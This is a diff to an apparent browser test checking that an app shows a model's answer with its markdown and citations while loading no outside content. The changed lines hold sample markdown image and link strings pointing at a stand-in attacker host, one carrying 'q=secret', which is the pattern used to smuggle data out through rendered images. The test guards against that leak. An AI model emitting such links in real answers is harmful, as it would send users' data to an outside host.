@@ -69,8 +69,8 @@ def test_a_models_answer_is_shown_with_its_markdown_and_citations_but_loads_noth
         app.upload(TERMS)
         answer = app.ask(QUESTION)
         expect(answer.locator("strong").filter(has_text="thirty days")).to_be_visible()
-        expect(answer).to_contain_text("![x](http://evil.example/?q=secret)")
-        expect(answer).to_contain_text("[click](http://evil.example)")
+        expect(answer).to_contain_text("![x](http://\u2060evil.example/?q=secret)")  # which the browser takes for no address
+        expect(answer).to_contain_text("[click](http://\u2060evil.example)")
         expect(answer.get_by_role("button", name=re.compile("terms.txt"))).to_be_visible()
         assert answer.locator("img").count() == 0
     assert foreign == []
